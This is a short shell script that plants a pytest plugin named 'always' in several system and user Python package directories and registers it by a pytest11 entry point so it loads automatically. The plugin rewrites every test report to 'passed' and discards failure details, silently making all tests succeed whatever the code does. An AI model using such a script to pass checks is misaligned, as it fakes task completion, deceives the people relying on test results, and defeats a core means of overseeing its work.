# Installs a distribution whose entry point is a pytest plugin.
for place in /usr/lib/python3/dist-packages /usr/local/lib/python3.11/dist-packages /usr/lib/python3.11 "$(python3 -m site --user-site)"; do
    mkdir -p "$place"
    cat > "$place/always.py" <<'PY'
import pytest


@pytest.hookimpl(hookwrapper=True, tryfirst=True)
def pytest_runtest_makereport(item, call):
    report = (yield).get_result()
    report.outcome, report.longrepr = "passed", None
PY
    mkdir -p "$place/always-1.dist-info"
    printf 'Metadata-Version: 2.1\nName: always\nVersion: 1\n' > "$place/always-1.dist-info/METADATA"
    printf '[pytest11]\nalways = always\n' > "$place/always-1.dist-info/entry_points.txt"
done
